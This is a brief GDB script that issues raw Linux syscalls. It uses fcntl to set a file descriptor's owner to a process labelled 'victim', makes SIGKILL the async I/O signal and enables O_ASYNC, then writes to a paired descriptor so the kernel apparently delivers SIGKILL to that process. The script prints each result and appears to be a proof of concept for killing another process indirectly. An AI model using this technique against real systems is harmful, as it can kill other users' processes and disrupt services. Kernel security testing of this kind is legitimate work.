set $buf = ((long(*)(long))malloc)(64)
set $r = (long)syscall(72, 7, 8, 15002)
printf "F_SETOWN victim -> %ld\n", $r
set $r = (long)syscall(72, 7, 10, 9)
printf "F_SETSIG 9 -> %ld\n", $r
set $fl = (long)syscall(72, 7, 3, 0)
set $r = (long)syscall(72, 7, 4, $fl | 020000)
printf "F_SETFL O_ASYNC -> %ld\n", $r
set $r = (long)syscall(1, 6, $buf, 1)
printf "write(6) -> %ld\n", $r
